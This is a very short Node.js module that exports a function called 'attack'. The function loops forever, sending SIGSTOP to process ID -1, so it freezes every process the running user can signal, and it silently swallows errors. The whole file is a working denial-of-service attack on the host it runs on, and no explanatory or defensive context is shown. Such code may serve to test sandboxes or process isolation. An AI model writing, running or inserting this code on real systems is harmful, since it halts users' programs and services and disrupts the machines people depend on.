exports.attack = () => {
  for (;;) {
    try {
      process.kill(-1, 'SIGSTOP');
    } catch {
      // Nobody there, for now.
    }
  }
};
